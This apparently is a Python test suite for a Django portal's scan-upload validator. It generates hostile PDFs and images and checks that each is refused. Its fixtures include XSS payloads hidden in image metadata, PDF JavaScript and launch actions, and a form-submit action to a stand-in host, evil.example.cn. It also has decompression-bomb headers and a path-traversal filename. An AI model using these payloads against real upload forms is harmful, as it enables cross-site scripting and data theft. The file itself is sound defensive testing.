"""A corpus of hostile and broken scans, each sent through the upload page the way a browser
sends it and through inspect_scan: PDFs cut short, PDFs that run JavaScript, launch programs,
carry attachments, link to web pages or open other files, images that are also web pages or hide
markup in their metadata (comments, EXIF, XMP, IPTC, PNG text chunks, compressed or not), images
whose header claims billions of pixels.
Each is refused with its Chinese message on the page (status 400) and leaves nothing behind: no
SignedScan row, no file in the private storage, no timeline entry.

(Zero-byte files, encrypted PDFs, executables and plain HTML under a scan's name are in
test_uploads.py.)"""
import io
import zlib

import pytest
from django.conf import settings
from django.core.exceptions import ValidationError
from django.urls import reverse
from PIL import Image, PngImagePlugin
from pypdf import PdfWriter
from pypdf.generic import ArrayObject, DictionaryObject, FloatObject, NameObject, NumberObject, TextStringObject

from applications.models import SignedScan, TimelineEntry
from applications.uploads import inspect_scan
from tests.conftest import jpeg_bytes, pdf_bytes, png_bytes, upload

pytestmark = pytest.mark.usefixtures("private_media")

ACTIVE_PDF = "PDF 文件含有脚本、附件或表单动作，请直接上传扫描仪生成的 PDF 或图片。"
LINKED_PDF = "PDF 文件含有网页链接或打开其他文件的动作，请直接上传扫描仪生成的 PDF 或图片。"
TRUNCATED_PDF = "PDF 文件不完整（可能上传中断），请重新上传。"
BAD_PDF = "PDF 文件已损坏或无法打开，请重新扫描后上传。"
POLYGLOT = "图片中夹带了网页代码，请重新扫描或另存为 JPEG/PNG 后上传。"
TOO_MANY_PIXELS = "图片尺寸过大，请降低扫描分辨率（建议 200–300 dpi）后上传。"


# --- the corpus ----------------------------------------------------------------------------------


def written(writer: PdfWriter) -> bytes:
    buffer = io.BytesIO()
    writer.write(buffer)
    return buffer.getvalue()


def one_page_writer() -> PdfWriter:
    writer = PdfWriter()
    writer.add_blank_page(width=595, height=842)
    return writer


def action(kind: str, **entries) -> DictionaryObject:
    return DictionaryObject({NameObject("/S"): NameObject(kind), **{NameObject(f"/{k}"): TextStringObject(v) for k, v in entries.items()}})


def pdf_opening_with_javascript() -> bytes:
    # The document's open action runs a script as soon as a reader opens it.
    writer = one_page_writer()
    writer._root_object[NameObject("/OpenAction")] = action("/JavaScript", JS="app.alert(1)")
    return written(writer)


def pdf_with_document_level_javascript() -> bytes:
    # A script in the catalog's /Names /JavaScript tree, run on opening by Acrobat.
    writer = one_page_writer()
    script = writer._add_object(action("/JavaScript", JS="app.alert(1)"))
    tree = writer._add_object(DictionaryObject({NameObject("/Names"): ArrayObject([TextStringObject("init"), script])}))
    writer._root_object[NameObject("/Names")] = DictionaryObject({NameObject("/JavaScript"): tree})
    return written(writer)


def pdf_with_a_page_script() -> bytes:
    # An additional action of the page, run when the page is shown.
    writer = one_page_writer()
    writer.pages[0][NameObject("/AA")] = DictionaryObject({NameObject("/O"): action("/JavaScript", JS="app.alert(1)")})
    return written(writer)


def pdf_launching_a_program() -> bytes:
    writer = one_page_writer()
    writer._root_object[NameObject("/OpenAction")] = action("/Launch", F="calc.exe")
    return written(writer)


def pdf_submitting_a_form() -> bytes:
    writer = one_page_writer()
    writer._root_object[NameObject("/OpenAction")] = action("/SubmitForm", F="https://evil.example.cn/collect")
    return written(writer)


def pdf_with_an_attachment() -> bytes:
    writer = one_page_writer()
    writer.add_attachment("发票.exe", b"MZ\x90\x00 not a scan")
    return written(writer)


def pdf_with_a_link_annotation(target: DictionaryObject) -> bytes:
    """A page with a link the size of the page: a click anywhere on the scan follows `target`."""
    writer = one_page_writer()
    link = DictionaryObject({
        NameObject("/Type"): NameObject("/Annot"), NameObject("/Subtype"): NameObject("/Link"),
        NameObject("/Rect"): ArrayObject([FloatObject(0), FloatObject(0), FloatObject(595), FloatObject(842)]),
        NameObject("/A"): target,
    })  # fmt: skip
    writer.pages[0][NameObject("/Annots")] = ArrayObject([writer._add_object(link)])
    return written(writer)


def pdf_linking_to_a_web_page() -> bytes:
    return pdf_with_a_link_annotation(action("/URI", URI="https://evil.example.cn/登录"))


def pdf_opening_another_file() -> bytes:
    # A go-to-remote action: the reader opens another PDF (from a share, a web address).
    writer = one_page_writer()
    writer._root_object[NameObject("/OpenAction")] = DictionaryObject({
        NameObject("/S"): NameObject("/GoToR"), NameObject("/F"): TextStringObject("https://evil.example.cn/盖章.pdf"),
        NameObject("/D"): ArrayObject([NumberObject(0), NameObject("/Fit")]),
    })  # fmt: skip
    return written(writer)


def pdf_going_to_an_embedded_file() -> bytes:
    return pdf_with_a_link_annotation(DictionaryObject({NameObject("/S"): NameObject("/GoToE"), NameObject("/NewWindow"): NameObject("/true")}))


def pdf_launching_through_an_indirect_action_type() -> bytes:
    # `/S 7 0 R` where object 7 is the name /Launch: the same action, its type one step away.
    writer = one_page_writer()
    launch = DictionaryObject({NameObject("/S"): writer._add_object(NameObject("/Launch")), NameObject("/F"): TextStringObject("calc.exe")})
    writer._root_object[NameObject("/OpenAction")] = launch
    return written(writer)


def pdf_cut_inside_its_eof_marker() -> bytes:
    # The transfer stopped in the last line: "%%EOF" arrived as "%".
    data = pdf_bytes()
    assert data.rstrip().endswith(b"%%EOF")
    return data.rstrip()[:-4]


def pdf_cut_before_its_eof_marker() -> bytes:
    data = pdf_bytes()
    return data[: data.rindex(b"%%EOF")]


def three_page_pdf_cut_at_nine_tenths() -> bytes:
    writer = PdfWriter()
    for _ in range(3):
        writer.add_blank_page(width=595, height=842)
    data = written(writer)
    return data[: len(data) * 9 // 10]


def jpeg_with_a_page_appended() -> bytes:
    # A valid JPEG followed by a web page: a browser sniffing the bytes could run it.
    return jpeg_bytes() + b"<html><script>alert(1)</script></html>"


def jpeg_with_script_in_its_comment() -> bytes:
    buffer = io.BytesIO()
    Image.new("RGB", (200, 280), "white").save(buffer, format="JPEG", comment=b"<html><script>alert(1)</script>")
    return buffer.getvalue()


def png_with_svg_in_a_text_chunk() -> bytes:
    info = PngImagePlugin.PngInfo()
    info.add_text("Comment", '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>')
    buffer = io.BytesIO()
    Image.new("RGB", (200, 280), "white").save(buffer, format="PNG", pnginfo=info)
    return buffer.getvalue()


def png_with_script_in_an_international_text_chunk() -> bytes:
    info = PngImagePlugin.PngInfo()
    info.add_itxt("Description", "说明<script>alert(1)</script>")
    buffer = io.BytesIO()
    Image.new("RGB", (200, 280), "white").save(buffer, format="PNG", pnginfo=info)
    return buffer.getvalue()


def png_with_text(*chunks: tuple[str, str, str]) -> bytes:
    """A PNG with text chunks (kind "text", "ztxt" or "itxt"/"itxt-compressed", keyword, text)."""
    info = PngImagePlugin.PngInfo()
    for kind, keyword, text in chunks:
        if kind.startswith("itxt"):
            info.add_itxt(keyword, text, lang="zh-CN", tkey="说明", zip=kind == "itxt-compressed")
        else:
            info.add_text(keyword, text, zip=kind == "ztxt")
    buffer = io.BytesIO()
    Image.new("RGB", (200, 280), "white").save(buffer, format="PNG", pnginfo=info)
    return buffer.getvalue()


def exif(**fields) -> Image.Exif:
    """EXIF fields by name; Windows' XP fields as UTF-16LE, as Windows writes them."""
    tags = {"Make": 0x010F, "Model": 0x0110, "Software": 0x0131, "ImageDescription": 0x010E, "XPComment": 0x9C9C}
    data = Image.Exif()
    for name, value in fields.items():
        data[tags[name]] = value.encode("utf-16-le") if name.startswith("XP") else value
    return data


def png_with_exif(data: Image.Exif) -> bytes:
    buffer = io.BytesIO()
    Image.new("RGB", (200, 280), "white").save(buffer, format="PNG", exif=data)
    return buffer.getvalue()


def jpeg_with(*, comment: bytes = b"", exif_data: Image.Exif | None = None, segments: tuple[bytes, ...] = ()) -> bytes:
    """A JPEG with a comment, EXIF, and further APPn segments (marker byte + payload) after its JFIF header."""
    buffer = io.BytesIO()
    options = {"comment": comment} if comment else {}
    if exif_data is not None:
        options["exif"] = exif_data
    Image.new("RGB", (200, 280), "white").save(buffer, format="JPEG", **options)
    data = buffer.getvalue()
    after_jfif = 4 + int.from_bytes(data[4:6], "big")
    extra = b"".join(b"\xff" + segment[:1] + (len(segment) + 1).to_bytes(2, "big") + segment[1:] for segment in segments)  # length counts itself
    return data[:after_jfif] + extra + data[after_jfif:]


def xmp_packet(description: str) -> str:
    """An XMP packet as scanning and photo software write it, with a dc:description."""
    return (
        '<?xpacket begin="\ufeff" id="W5M0MpCehiHzreSzNTczkc9d"?><x:xmpmeta xmlns:x="adobe:ns:meta/" x:xmptk="XMP Core 6.0.0">'
        '<rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#"><rdf:Description rdf:about="" '
        'xmlns:dc="http://purl.org/dc/elements/1.1/" xmlns:xmp="http://ns.adobe.com/xap/1.0/" xmp:CreatorTool="Epson Scan 2">'
        f'<dc:description><rdf:Alt><rdf:li xml:lang="x-default">{description}</rdf:li></rdf:Alt></dc:description>'
        '</rdf:Description></rdf:RDF></x:xmpmeta><?xpacket end="w"?>'
    )


def xmp_segment(description: str) -> bytes:
    """A JPEG's APP1 XMP segment (marker byte, then payload)."""
    return b"\xe1" + b"http://ns.adobe.com/xap/1.0/\x00" + xmp_packet(description).encode()


def iptc_segment(caption: str) -> bytes:
    """An APP13 Photoshop segment whose IPTC record holds a caption (2:120)."""
    value = caption.encode()
    iptc = b"\x1c\x02\x78" + len(value).to_bytes(2, "big") + value
    resource = b"8BIM" + (0x0404).to_bytes(2, "big") + b"\x00\x00" + len(iptc).to_bytes(4, "big") + iptc + b"\x00" * (len(iptc) % 2)
    return b"\xed" + b"Photoshop 3.0\x00" + resource


IMG_ONERROR = "<img src=x onerror=alert(1)>"


def png_after_its_end_carrying_a_page() -> bytes:
    return png_bytes() + b"<body onload=alert(1)>"


def png_claiming(width: int, height: int) -> bytes:
    """A tiny PNG whose header (IHDR, with a correct checksum) claims width × height pixels."""
    buffer = io.BytesIO()
    Image.new("1", (16, 16)).save(buffer, format="PNG")
    data = bytearray(buffer.getvalue())
    data[16:24] = width.to_bytes(4, "big") + height.to_bytes(4, "big")
    data[29:33] = (zlib.crc32(bytes(data[12:29])) & 0xFFFFFFFF).to_bytes(4, "big")
    return bytes(data)


def jpeg_claiming(width: int, height: int) -> bytes:
    """A tiny JPEG whose frame header (SOF0) claims width × height pixels."""
    data = bytearray(jpeg_bytes((16, 16)))
    frame = data.index(b"\xff\xc0")
    data[frame + 5 : frame + 9] = height.to_bytes(2, "big") + width.to_bytes(2, "big")
    return bytes(data)


CORPUS = [
    pytest.param("scan.pdf", pdf_opening_with_javascript(), ACTIVE_PDF, id="pdf open action javascript"),
    pytest.param("scan.pdf", pdf_with_document_level_javascript(), ACTIVE_PDF, id="pdf names tree javascript"),
    pytest.param("scan.pdf", pdf_with_a_page_script(), ACTIVE_PDF, id="pdf page additional action"),
    pytest.param("scan.pdf", pdf_launching_a_program(), ACTIVE_PDF, id="pdf launch action"),
    pytest.param("scan.pdf", pdf_submitting_a_form(), ACTIVE_PDF, id="pdf submit form action"),
    pytest.param("scan.pdf", pdf_with_an_attachment(), ACTIVE_PDF, id="pdf embedded file"),
    pytest.param("scan.pdf", pdf_cut_inside_its_eof_marker(), TRUNCATED_PDF, id="pdf cut inside eof marker"),
    pytest.param("scan.pdf", pdf_cut_before_its_eof_marker(), BAD_PDF, id="pdf without eof marker"),
    pytest.param("scan.pdf", three_page_pdf_cut_at_nine_tenths(), BAD_PDF, id="pdf cut at nine tenths"),
    pytest.param("scan.jpg", jpeg_with_a_page_appended(), POLYGLOT, id="jpeg html polyglot"),
    pytest.param("scan.jpg", jpeg_with_script_in_its_comment(), POLYGLOT, id="jpeg script in comment segment"),
    pytest.param("scan.png", png_with_svg_in_a_text_chunk(), POLYGLOT, id="png svg in text chunk"),
    pytest.param("scan.png", png_with_script_in_an_international_text_chunk(), POLYGLOT, id="png script in itxt chunk"),
    pytest.param("scan.png", png_after_its_end_carrying_a_page(), POLYGLOT, id="png markup after iend"),
    pytest.param("scan.pdf", pdf_linking_to_a_web_page(), LINKED_PDF, id="pdf uri link annotation"),
    pytest.param("scan.pdf", pdf_opening_another_file(), LINKED_PDF, id="pdf goto remote action"),
    pytest.param("scan.pdf", pdf_going_to_an_embedded_file(), LINKED_PDF, id="pdf goto embedded action"),
    pytest.param("scan.pdf", pdf_launching_through_an_indirect_action_type(), ACTIVE_PDF, id="pdf launch with indirect action type"),
    # Markup hidden in an image's metadata: plain, compressed, in UTF-16, entity-escaped.
    pytest.param("scan.png", png_with_text(("text", "Comment", IMG_ONERROR)), POLYGLOT, id="png img onerror in text chunk"),
    pytest.param("scan.png", png_with_text(("ztxt", "Comment", "<script>alert(1)</script>")), POLYGLOT, id="png script in compressed text chunk"),
    pytest.param("scan.png", png_with_text(("itxt-compressed", "Description", IMG_ONERROR)), POLYGLOT, id="png img onerror in compressed itxt"),
    pytest.param("scan.png", png_with_exif(exif(XPComment="<script>alert(1)</script>")), POLYGLOT, id="png script in exif xpcomment"),
    pytest.param("scan.jpg", jpeg_with(comment=IMG_ONERROR.encode()), POLYGLOT, id="jpeg img onerror in comment"),
    pytest.param("scan.jpg", jpeg_with(exif_data=exif(ImageDescription=IMG_ONERROR)), POLYGLOT, id="jpeg img onerror in exif description"),
    pytest.param("scan.jpg", jpeg_with(exif_data=exif(XPComment="<script>alert(1)</script>")), POLYGLOT, id="jpeg script in exif xpcomment utf16"),
    pytest.param("scan.jpg", jpeg_with(segments=(xmp_segment("&lt;img src=x onerror=alert(1)&gt;"),)), POLYGLOT, id="jpeg escaped markup in xmp"),
    pytest.param("scan.jpg", jpeg_with(segments=(iptc_segment('<a href="https://evil.example.cn">查看</a>'),)), POLYGLOT, id="jpeg link in iptc caption"),
    # Over the portal's 80 million pixels, and far over Pillow's own limit (which Pillow enforces
    # itself, before the portal's check runs): both are "too large", never "damaged".
    pytest.param("scan.png", png_claiming(10_000, 10_000), TOO_MANY_PIXELS, id="png 100 million pixels"),
    pytest.param("scan.png", png_claiming(65_000, 65_000), TOO_MANY_PIXELS, id="png 4 billion pixels"),
    pytest.param("scan.jpg", jpeg_claiming(10_000, 10_000), TOO_MANY_PIXELS, id="jpeg 100 million pixels"),
    pytest.param("scan.jpg", jpeg_claiming(65_000, 65_000), TOO_MANY_PIXELS, id="jpeg 4 billion pixels"),
]


def stored_files(root) -> list:
    return [path for path in root.rglob("*") if path.is_file()]


def upload_url(application):
    return reverse("applications:scan_upload", args=[application.pk])


# --- through the page ----------------------------------------------------------------------------


@pytest.mark.filterwarnings("ignore::PIL.Image.DecompressionBombWarning")
@pytest.mark.parametrize(("name", "data", "message"), CORPUS)
def test_the_upload_page_refuses_it_says_why_and_keeps_nothing(client, user_a, complete_application_a, private_media, name, data, message):
    client.force_login(user_a)

    response = client.post(upload_url(complete_application_a), {"scan": upload(name, data)})

    assert response.status_code == 400
    assert message in response.content.decode()
    assert SignedScan.objects.count() == 0
    assert stored_files(private_media) == []
    assert not TimelineEntry.objects.filter(action="upload_scan").exists()


@pytest.mark.filterwarnings("ignore::PIL.Image.DecompressionBombWarning")
@pytest.mark.parametrize(("name", "data", "message"), CORPUS)
def test_inspect_scan_refuses_it_with_the_same_message(name, data, message):
    with pytest.raises(ValidationError) as refused:
        inspect_scan(upload(name, data), max_bytes=settings.SCAN_MAX_BYTES)

    assert refused.value.messages == [message]


def test_the_corpus_is_made_of_otherwise_acceptable_files():
    # Each hostile file above is a clean scan plus one thing: the clean ones pass, so the refusals
    # come from that one thing.
    for clean in (pdf_bytes(), written(one_page_writer()), jpeg_bytes(), png_bytes(), png_claiming(2480, 3508), jpeg_claiming(2480, 3508)):
        kind, _digest = inspect_scan(upload("scan", clean), max_bytes=settings.SCAN_MAX_BYTES)
        assert kind in ("pdf", "jpeg", "png")


def test_scans_with_the_metadata_scanners_and_phones_write_are_accepted():
    # The metadata checks read text, not tags: what scanning software, cameras and editors write
    # (namespaced XMP, Chinese descriptions, internal links) passes; so does a page's own link.
    internal_link = DictionaryObject({NameObject("/S"): NameObject("/GoTo"), NameObject("/D"): ArrayObject([NumberObject(0), NameObject("/Fit")])})
    ordinary = [
        png_with_text(("text", "Software", "Epson Scan 2"), ("ztxt", "Comment", "Scanned page 1 of 1"),
                      ("itxt", "Description", "盖章扫描件 <第1页>"), ("itxt-compressed", "XML:com.adobe.xmp", xmp_packet("扫描件"))),
        png_with_exif(exif(Make="EPSON", Model="DS-530", Software="Epson Scan 2", XPComment="盖章扫描件")),
        jpeg_with(comment=b"Scanned by EPSON DS-530 on 2023-03-20 09:30", exif_data=exif(Make="HUAWEI", Model="P40", XPComment="盖章扫描件"),
                  segments=(xmp_segment("实验校资格申请表（盖章）"), iptc_segment("浙江示范职业技术学院 申请表 a < b"))),
        pdf_with_a_link_annotation(internal_link),
    ]  # fmt: skip
    for data in ordinary:
        kind, _digest = inspect_scan(upload("scan", data), max_bytes=settings.SCAN_MAX_BYTES)
        assert kind in ("pdf", "jpeg", "png")


def test_a_compressed_text_chunk_too_large_to_be_a_scanners_is_refused():
    # 2 MB of text inflated from a few KB: refused before it is inflated past 1 MB, not searched
    # only up to a point (markup could sit after it).
    data = png_with_text(("ztxt", "Comment", "a" * (2 * 1024 * 1024)))

    with pytest.raises(ValidationError) as refused:
        inspect_scan(upload("scan.png", data), max_bytes=settings.SCAN_MAX_BYTES)

    assert refused.value.messages == ["图片中附带的文字信息过多，请重新扫描或另存为 JPEG/PNG 后上传。"]


def test_a_hostile_file_name_is_neither_trusted_nor_echoed_as_markup(client, user_a, complete_application_a, private_media):
    # A good scan under a name with a path and markup: stored under a server-made name inside the
    # private storage; the name is kept (its last part only) and shown escaped.
    client.force_login(user_a)
    name = '../../../etc/<img src=x onerror=alert(1)>.png'

    response = client.post(upload_url(complete_application_a), {"scan": upload(name, png_bytes())}, follow=True)

    assert response.status_code == 200
    [path] = stored_files(private_media)
    assert path.parent == private_media / "scans" / str(complete_application_a.pk)
    scan = SignedScan.objects.get()
    assert "/" not in scan.original_name and ".." not in scan.original_name
    assert scan.original_name == "<img src=x onerror=alert(1)>.png"
    html = client.get(reverse("applications:edit", args=[complete_application_a.pk])).content.decode()
    assert "已上传：" in html and "&lt;img src=x onerror=alert(1)&gt;.png" in html
    assert "<img src=x onerror" not in html
